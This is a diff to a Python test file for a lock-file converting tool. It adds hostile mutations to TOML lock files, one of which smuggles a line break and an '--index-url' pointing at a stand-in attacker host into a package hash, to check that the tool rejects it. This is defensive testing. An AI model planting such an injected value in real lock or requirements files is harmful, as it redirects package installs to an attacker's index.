@@ -8,6 +8,7 @@ import functools
 import http.server
 import json
 import os
+import re
 import subprocess
 import sys
 import threading
@@ -155,7 +156,13 @@ HOSTILE = {
     "deep": lambda text: text + "x = " + "[" * 100_000 + "]" * 100_000 + "\n",
     "no-source": lambda text: text.replace('source = { registry', 'origin = { registry', 1),
     "unknown-dependency": lambda text: text.replace('{ name = "bar" }', '{ name = "nope" }', 1),
+    # a hash is written into the requirements lock: a line break in it would add an option line
+    "hash-injects-an-option": lambda text: re.sub(r"([0-9a-f]{64})", r"\1\\n--index-url=https://evil.example/simple", text, 1),
+    "hash-short": lambda text: re.sub(r"([0-9a-f]{64})", "abc", text, 1),
 }
+
+
+HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short"}
 
 
 @pytest.mark.parametrize("fmt", ["uv-lock", "pylock"])
@@ -168,6 +175,7 @@ def test_hostile_toml_locks_are_one_error_line(world: dict, tmp_path: Path, fmt:
     flag = "--uv-lock" if fmt == "uv-lock" else "--pylock"
     result = run_cli("lock", flag, str(bad), "--index", str(world["index"]), "--out", str(tmp_path / "out.txt"))
     if result.returncode == 0:  # the mutation missed what this format reads: a result, then
+        assert mutation not in HOSTILE_READ_BY_BOTH
         assert (tmp_path / "out.txt").exists()
         return
     assert result.returncode == 1
